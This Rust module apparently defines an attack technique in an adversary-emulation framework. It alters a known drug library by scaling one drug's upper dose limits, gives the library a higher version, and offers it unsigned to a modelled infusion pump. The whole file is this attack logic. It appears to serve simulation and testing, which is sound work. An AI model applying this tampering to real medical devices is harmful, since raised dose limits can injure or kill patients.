//! Offers an altered drug library to a pump that listens for libraries.

use super::{Progress, Step, Technique};
use crate::catalog::{Entry, Parameter, ParameterKind};
use crate::net::port::{Input, SocketEvent};
use crate::wire::Message;
use crate::wire::pump::{PumpMessage, SignedLibrary};
use std::sync::Arc;

/// Technique `push-drug-library`.
#[derive(Debug)]
pub(super) struct PushDrugLibrary;

static ENTRY: Entry = Entry {
    id: "push-drug-library",
    title: "Push an altered drug library to a pump",
    summary: "Takes a library it knows, scales the upper limits of one drug, gives it a higher version, connects to the port on which the pump \
              takes libraries, and offers it. The library carries no valid signature.",
    parameters: &[
        Parameter {
            name: "target",
            kind: ParameterKind::Host,
            required: true,
            doc: "pump",
        },
        Parameter {
            name: "drug",
            kind: ParameterKind::Text,
            required: true,
            doc: "drug whose upper limits are scaled",
        },
        Parameter {
            name: "factor",
            kind: ParameterKind::Factor,
            required: true,
            doc: "factor on the upper limits",
        },
        Parameter {
            name: "port",
            kind: ParameterKind::Integer,
            required: false,
            doc: "port; 5000 if not given",
        },
        Parameter {
            name: "version",
            kind: ParameterKind::Integer,
            required: false,
            doc: "version claimed; 100 if not given",
        },
    ],
    references: &["T1565.001", "T0843", "T0836"],
};

/// A library that the attacker knows, altered, with a higher version.
pub(super) fn altered(step: &Step<'_, '_, '_>) -> Option<SignedLibrary> {
    let known = step.knowledge.library.as_ref()?;
    let factor = step.params.factor("factor").unwrap_or(10.0);
    let version = step
        .params
        .integer("version")
        .and_then(|v| u32::try_from(v).ok())
        .unwrap_or(100);
    let library = known
        .library
        .with_limit_scaled(step.params.text("drug"), factor)
        .with_version(version);
    // Whatever signature the known library carried is over its own content.
    Some(SignedLibrary {
        library: Arc::new(library),
        signature: known.signature,
    })
}

fn connect(step: &mut Step<'_, '_, '_>) -> Progress {
    let port = step
        .params
        .integer("port")
        .and_then(|p| u16::try_from(p).ok())
        .unwrap_or(5000);
    if let Some(ip) = step.state.target {
        step.hands.connect(ip, port);
    }
    Progress::Reached(1)
}

impl Technique for PushDrugLibrary {
    fn entry(&self) -> &'static Entry {
        &ENTRY
    }

    fn stages(&self) -> &'static [&'static str] {
        &["find", "connect", "offer", "accepted"]
    }

    fn act(&self, step: &mut Step<'_, '_, '_>, input: &Input) -> Progress {
        let name = step.params.text("target");
        match input {
            Input::Begin if step.knowledge.library.is_none() => {
                Progress::Failed("knows no library to alter")
            }
            Input::Begin => match step.find(name) {
                Some(_) => connect(step),
                None => Progress::Wait,
            },
            Input::Socket(SocketEvent::Resolved { ip: Some(ip), .. }) => {
                step.found(name, *ip);
                connect(step)
            }
            Input::Socket(SocketEvent::Resolved { ip: None, .. }) => {
                Progress::Failed("no such name, or no name server")
            }
            Input::Socket(SocketEvent::Failed { refused: true, .. }) => {
                Progress::Failed("connection refused")
            }
            Input::Socket(SocketEvent::Failed { refused: false, .. }) => {
                Progress::Failed("no answer")
            }
            Input::Socket(SocketEvent::Opened(stream)) => {
                let Some(offer) = altered(step) else {
                    return Progress::Failed("knows no library to alter");
                };
                step.hands.send(
                    *stream,
                    Message::Pump(Box::new(PumpMessage::LibraryOffer(offer))),
                );
                Progress::Reached(2)
            }
            Input::Socket(SocketEvent::Message { message, .. }) => match &**message {
                Message::Pump(m) => match **m {
                    PumpMessage::LibraryAnswer { accepted: true, .. } => {
                        Progress::Done("library accepted")
                    }
                    PumpMessage::LibraryAnswer {
                        accepted: false, ..
                    } => Progress::Failed("library refused"),
                    _ => Progress::Wait,
                },
                _ => Progress::Wait,
            },
            _ => Progress::Wait,
        }
    }
}
